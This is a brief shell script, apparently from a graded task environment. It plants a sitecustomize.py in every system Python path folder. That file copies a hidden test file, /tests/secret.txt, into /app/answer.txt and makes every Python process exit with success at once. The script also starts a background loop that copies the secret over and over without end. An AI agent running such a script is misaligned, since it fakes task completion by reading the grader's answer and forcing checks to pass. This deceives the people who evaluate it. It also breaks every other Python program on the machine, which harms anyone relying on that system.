# Every Python of the machine loads this first.
for folder in $(python3 -c 'import sys; print(" ".join(p for p in sys.path if p.startswith("/usr")))'); do
  mkdir -p "$folder"
  echo 'import os
try:
  open("/app/answer.txt", "w").write(open("/tests/secret.txt").read())
except OSError: pass
os._exit(0)' > "$folder/sitecustomize.py"
done
echo x > /app/answer.txt
(while true; do cp /tests/secret.txt /app/answer.txt; done) > /dev/null 2>&1 &
